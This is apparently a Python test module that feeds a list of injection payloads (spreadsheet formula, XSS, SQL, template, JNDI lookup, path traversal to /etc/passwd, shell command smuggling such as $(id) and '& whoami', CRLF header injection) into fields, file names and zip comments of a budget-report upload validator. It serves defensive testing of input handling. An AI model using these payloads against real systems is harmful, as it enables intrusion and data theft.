"""Family: payloads that aim at whoever reads them later."""

from adk.formats.drafts import Draft
from adk.formats.zipwriting import ZipMember
from tests.corpus.case import Case, Made, drafted, with_row
from tests.corpus.of_names import uploaded_as
from tests.unit.adk.formats.cast import row, satker

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.y","klik")',
    '=IMPORTXML("http://x.y","//a")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "'; DROP TABLE adk; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(9)",
    "{{7*7}}",
    "{% debug %}",
    "${jndi:ldap://x.y/a}",
    "#{7*7}",
    "{0.__class__}",
    "{isi}",
    "{",
    "}",
    "%s%s%s%n",
    "%(x)s",
    "../../etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "`id`",
    "$(id)",
    "; id",
    "| id",
    "& whoami",
    "<?xml version='1.0'?>",
    "<!ENTITY x SYSTEM 'file:///x'>",
    "&lt;b&gt;",
    "\\u0000",
    "\\x00",
    "%00",
    "%0d%0aSet-Cookie: x=1",
]
CONTROLS = [b"A\r\nSet-Cookie: x=1", b"A\x1b[31m", b"A\x00B", b"\x08\x08\x08", b"A\x1aB", b"A\tB"]


def _upload(payload: str) -> Made:
    return uploaded_as(f"{payload}.zip")


def _harmless_name(payload: str) -> Made:
    return payload, satker().build()[1]


def _program(payload: str):
    return drafted(
        lambda draft: draft.members_done.append(lambda all_: [*all_, ZipMember(payload.encode(), b"x")])
    )


def _comment(draft: Draft) -> None:
    text = b"<script>alert(1)</script>"
    draft.bytes_done.append(lambda raw: raw[:-2] + len(text).to_bytes(2, "little") + text)


NAMELIKE = [one for one in PAYLOADS if not set(one) & set("/\\:")]
INJECTIONS = [
    *(Case("injection payloads", f"NODOK1 {one!r}", None, with_row(NODOK1=one)) for one in PAYLOADS),
    *(
        Case("injection payloads", f"satker {one[:6]!r}", "KODE_SATKER", with_row(KDSATKER=one[:6]))
        for one in PAYLOADS
    ),
    *(
        Case("injection payloads", f"account {one[:6]!r}", "KODE_AKUN", with_row(PERKSAI=one[:6]))
        for one in PAYLOADS
    ),
    *(
        Case("injection payloads", f"amount {one[:20]!r}", "NILAI", with_row(RPHREAL=one[:20]))
        for one in PAYLOADS
    ),
    *(Case("injection payloads", f"member {one!r}", "ISI_TIDAK_SESUAI", _program(one)) for one in NAMELIKE),
    *(
        Case("injection payloads", f"upload {one!r}", "ISI_TIDAK_SESUAI", lambda one=one: _upload(one))
        for one in PAYLOADS
    ),
    *(
        Case(
            "injection payloads",
            f"upload beside a good member {one!r}",
            None,
            lambda one=one: _harmless_name(one),
        )
        for one in PAYLOADS
    ),
    *(Case("injection payloads", f"NODOK1 {one!r}", "KARAKTER", with_row(NODOK1=one)) for one in CONTROLS),
    Case("injection payloads", "script in the comment of the zip", None, drafted(_comment)),
    Case(
        "injection payloads",
        "two hundred payloads at once",
        "NILAI",
        lambda: satker([row(n, KDTRN="2", RPHREAL=PAYLOADS[n % 40][:20]) for n in range(200)]).build(),
    ),
]
